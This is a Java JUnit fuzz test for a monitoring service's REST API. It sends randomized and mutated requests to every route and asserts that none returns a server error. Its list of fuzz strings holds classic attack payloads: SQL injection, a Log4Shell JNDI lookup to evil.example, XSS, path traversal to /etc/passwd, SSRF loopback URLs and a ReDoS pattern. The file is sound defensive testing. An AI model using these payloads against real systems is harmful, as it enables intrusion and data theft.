package dev.flinkwatch.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.flinkwatch.api.ApiHarness.Response;
import dev.flinkwatch.api.ApiHarness.Tenant;
import dev.flinkwatch.model.ModelCodec;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * Random and mutated requests against every route: none may produce a 5xx, and the server must be
 * healthy afterwards. The seed is printed with any failure; rerun with {@code -Dfuzz.seed=<seed>}.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class FuzzIT {
    private static final int REQUESTS = 1500;
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final byte[] MUTATION_BYTES = {
        '{', '}', '[', ']', '"', ',', ':', '\\', 0, (byte) 0xff, (byte) 0xc3, 'e', '-', '9', ' '
    };
    private static final List<String> ROUTES =
            List.of(
                    "/v1/monitors",
                    "/v1/monitors/{id}",
                    "/v1/monitors/{id}/pause",
                    "/v1/monitors/{id}/resume",
                    "/v1/monitors/{id}/alerts",
                    "/v1/monitors/{id}/checks",
                    "/v1/alerts",
                    "/v1/tenants",
                    "/v1/tenants/{id}/keys",
                    "/v1/keys/{id}",
                    "/v1/feeds",
                    "/v1/feeds/{id}",
                    "/feeds/{id}.atom",
                    "/healthz",
                    "/readyz",
                    "/openapi.json",
                    "/v1/{id}",
                    "/{id}");
    private static final List<String> METHODS =
            List.of("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD");
    private static final List<String> STRINGS =
            List.of(
                    "",
                    " ",
                    "\u0000",
                    "a\u0000b",
                    "\ud800",
                    "\udc00x",
                    "\uD83D\uDE00",
                    "\u202E\u05D0",
                    "e\u0301\u0301\u0301",
                    "'; DROP TABLE monitors; --",
                    "\" OR \"1\"=\"1",
                    "${jndi:ldap://evil.example/a}",
                    "<script>alert(1)</script>",
                    "%s%n%x",
                    "../../etc/passwd",
                    "http://127.0.0.1/",
                    "https://[::1]/",
                    "http://0x7f000001/",
                    "https://shop.example/widget",
                    "javascript:alert(1)",
                    "(a+)+$",
                    "[",
                    "div > > p",
                    ":has(:has(:has(a)))",
                    "any_change",
                    "number",
                    "llm",
                    "<=",
                    "paused",
                    "x".repeat(3000));

    private ApiHarness harness;
    private Tenant tenant;
    private String existing;

    @BeforeAll
    void start() {
        // One tenant sending 1500 requests as fast as it can: with rate limits most would be
        // answered 429 before they reach the code under test (RateLimitIT covers the limits).
        harness = ApiHarness.start(b -> b.writeLimit(0, 0).readLimit(0, 0));
        tenant = harness.createTenant("Fuzzed");
        existing =
                harness.createMonitor(
                                tenant, ApiHarness.monitorBody("fuzz target", "https://f.example/"))
                        .get("id")
                        .asText();
    }

    @AfterAll
    void stop() {
        harness.close();
    }

    @Test
    void randomAndMutatedRequestsNeverCauseA5xx() {
        long seed = Long.getLong("fuzz.seed", new Random().nextLong());
        Random random = new Random(seed);
        List<String> serverErrors = new ArrayList<>();
        Map<Integer, Integer> statuses = new java.util.TreeMap<>();
        for (int i = 0; i < REQUESTS; i++) {
            Request request = randomRequest(random);
            Response r;
            try {
                r =
                        harness.sendRaw(
                                request.method(),
                                request.path(),
                                request.headers(),
                                request.publisher());
            } catch (UncheckedIOException e) {
                serverErrors.add("no response: " + request + ": " + e.getCause());
                continue;
            }
            statuses.merge(r.status(), 1, Integer::sum);
            if (r.status() >= 500) {
                serverErrors.add(r.status() + " " + request + " -> " + r.body());
            }
        }
        assertThat(serverErrors).as("seed %d, statuses %s", seed, statuses).isEmpty();
        assertThat(statuses.values().stream().mapToInt(Integer::intValue).sum())
                .isEqualTo(REQUESTS);
        // Mostly rejections, but the mutations also hit the success paths.
        assertThat(statuses.keySet()).as("statuses %s", statuses).contains(200, 400, 404);

        assertThat(harness.send("GET", "/healthz", Map.of(), null).status()).isEqualTo(200);
        assertThat(harness.send("GET", "/readyz", Map.of(), null).status()).isEqualTo(200);
        // The fuzzer may have revoked the tenant's key or deleted its monitor: use a new key.
        Response key = harness.admin("POST", "/v1/tenants/" + tenant.id() + "/keys", null);
        assertThat(key.status()).isEqualTo(201);
        Tenant again =
                new Tenant(
                        tenant.id(),
                        key.json().get("apiKey").asText(),
                        UUID.fromString(key.json().get("id").asText()));
        assertThat(harness.get("/v1/monitors/" + existing, again).status()).isIn(200, 404);
        harness.createMonitor(
                again, ApiHarness.monitorBody("after fuzzing", "https://after.example/"));
    }

    /** A generated request; bodies are bytes so they can be invalid UTF-8. */
    private record Request(String method, String path, Map<String, String> headers, byte[] body) {
        HttpRequest.BodyPublisher publisher() {
            return body == null
                    ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofByteArray(body);
        }

        @Override
        public String toString() {
            String shown = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            return method
                    + " "
                    + path
                    + " "
                    + headers.keySet()
                    + " "
                    + (shown.length() > 300 ? shown.substring(0, 300) + "..." : shown);
        }
    }

    private Request randomRequest(Random random) {
        String method;
        String path;
        if (random.nextInt(3) > 0) {
            // Most requests go to a body-taking monitor route with a mutated body.
            method = random.nextBoolean() ? "POST" : "PUT";
            path = method.equals("POST") ? "/v1/monitors" : "/v1/monitors/" + existing;
        } else {
            method = pick(random, METHODS);
            path = pick(random, ROUTES).replace("{id}", randomId(random)) + randomQuery(random);
        }
        Map<String, String> headers = new LinkedHashMap<>();
        switch (random.nextInt(10)) {
            case 0 -> {}
            case 1 ->
                    headers.put(
                            "Authorization",
                            "Bearer " + pick(random, STRINGS).replaceAll("[^\\x21-\\x7e]", "x"));
            case 2 ->
                    headers.put(
                            "X-Admin-Token",
                            random.nextBoolean() ? ApiHarness.ADMIN_TOKEN : "wrong");
            default -> headers.putAll(tenant.auth());
        }
        switch (random.nextInt(8)) {
            case 0 -> {}
            case 1 ->
                    headers.put(
                            "Content-Type",
                            pick(
                                    random,
                                    List.of(
                                            "text/plain",
                                            "application/xml",
                                            "application/json; charset=latin1",
                                            "APPLICATION/JSON",
                                            "multipart/form-data; boundary=x")));
            default -> headers.put("Content-Type", "application/json");
        }
        byte[] body =
                method.equals("GET") || method.equals("HEAD") || random.nextInt(10) == 0
                        ? null
                        : randomBody(random, path);
        return new Request(method, path, headers, body);
    }

    private byte[] randomBody(Random random, String path) {
        JsonNode base =
                path.startsWith("/v1/tenants")
                        ? tenantBody(random)
                        : json(
                                ApiHarness.monitorBody(
                                        "fuzz", "https://fz.example/" + random.nextInt(1000)));
        return switch (random.nextInt(6)) {
            case 0, 1, 2 ->
                    bytes(mutateTree(random, base.deepCopy(), 1 + random.nextInt(3)).toString());
            case 3 -> mutateBytes(random, bytes(base.toString()));
            case 4 -> truncate(random, bytes(base.toString()));
            default -> bytes(randomValue(random, 3).toString());
        };
    }

    private static JsonNode tenantBody(Random random) {
        ObjectNode body = NODES.objectNode();
        body.put("name", "fuzz tenant " + random.nextInt(1000));
        if (random.nextBoolean()) {
            body.put("monitorQuota", random.nextInt(2000) - 100);
        }
        return body;
    }

    /** Replaces {@code edits} random nodes of the tree with random values. */
    private static JsonNode mutateTree(Random random, JsonNode root, int edits) {
        for (int e = 0; e < edits; e++) {
            List<JsonNode> containers = new ArrayList<>();
            collectContainers(root, containers);
            JsonNode container = containers.get(random.nextInt(containers.size()));
            if (container instanceof ObjectNode object) {
                List<String> names = new ArrayList<>();
                object.fieldNames().forEachRemaining(names::add);
                if (names.isEmpty() || random.nextInt(5) == 0) {
                    object.set(
                            pick(
                                    random,
                                    List.of(
                                            "name",
                                            "status",
                                            "extra",
                                            "type",
                                            "op",
                                            "value",
                                            "url",
                                            "id",
                                            "version",
                                            "tenantId")),
                            randomValue(random, 2));
                } else if (random.nextInt(6) == 0) {
                    object.remove(pick(random, names));
                } else {
                    object.set(pick(random, names), randomValue(random, 2));
                }
            } else if (container instanceof ArrayNode array) {
                if (array.isEmpty() || random.nextBoolean()) {
                    array.add(randomValue(random, 2));
                } else {
                    array.set(random.nextInt(array.size()), randomValue(random, 2));
                }
            }
        }
        return root;
    }

    private static void collectContainers(JsonNode node, List<JsonNode> out) {
        if (node.isContainerNode()) {
            out.add(node);
            node.forEach(child -> collectContainers(child, out));
        }
    }

    private static JsonNode randomValue(Random random, int depth) {
        int kind = random.nextInt(depth > 0 ? 9 : 7);
        return switch (kind) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2 ->
                    NODES.numberNode(
                            pick(
                                    random,
                                    List.of(
                                            0L,
                                            -1L,
                                            1L,
                                            59L,
                                            60L,
                                            300L,
                                            604801L,
                                            Integer.MAX_VALUE + 1L,
                                            Long.MIN_VALUE,
                                            Long.MAX_VALUE)));
            case 3 ->
                    NODES.numberNode(
                            pick(
                                    random,
                                    List.of(0.5, -0.0, 1e308, -1e308, 49.99, Double.MIN_VALUE)));
            case 4 ->
                    NODES.numberNode(new java.math.BigInteger("9".repeat(1 + random.nextInt(60))));
            case 5, 6 -> NODES.textNode(pick(random, STRINGS));
            case 7 -> {
                ArrayNode array = NODES.arrayNode();
                for (int i = random.nextInt(4); i > 0; i--) {
                    array.add(randomValue(random, depth - 1));
                }
                yield array;
            }
            default -> {
                ObjectNode object = NODES.objectNode();
                for (int i = random.nextInt(4); i > 0; i--) {
                    object.set(
                            pick(
                                    random,
                                    List.of(
                                            "url",
                                            "selector",
                                            "type",
                                            "text",
                                            "pattern",
                                            "op",
                                            "value",
                                            "prompt",
                                            "webhookUrl",
                                            "ignoreCase")),
                            randomValue(random, depth - 1));
                }
                yield object;
            }
        };
    }

    private static byte[] mutateBytes(Random random, byte[] json) {
        byte[] out = json.clone();
        for (int i = 1 + random.nextInt(5); i > 0; i--) {
            int at = random.nextInt(out.length);
            out[at] = MUTATION_BYTES[random.nextInt(MUTATION_BYTES.length)];
        }
        return out;
    }

    private static byte[] truncate(Random random, byte[] json) {
        return java.util.Arrays.copyOf(json, random.nextInt(json.length));
    }

    private String randomId(Random random) {
        return switch (random.nextInt(5)) {
            case 0 -> existing;
            case 1 -> UUID.randomUUID().toString();
            case 2 -> tenant.keyId().toString();
            case 3 -> enc(pick(random, STRINGS));
            default -> Integer.toString(random.nextInt());
        };
    }

    private static String randomQuery(Random random) {
        if (random.nextBoolean()) {
            return "";
        }
        String name = pick(random, List.of("limit", "cursor", "since", "x"));
        String value =
                switch (random.nextInt(4)) {
                    case 0 -> Integer.toString(random.nextInt(500) - 100);
                    case 1 ->
                            Base64.getUrlEncoder()
                                    .encodeToString(
                                            pick(random, STRINGS).getBytes(StandardCharsets.UTF_8));
                    case 2 -> "2025-0" + random.nextInt(20) + "-01T00:00:00Z";
                    default -> pick(random, STRINGS);
                };
        return "?" + name + "=" + enc(value);
    }

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String enc(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static JsonNode json(String text) {
        try {
            return ModelCodec.mapper().readTree(text);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
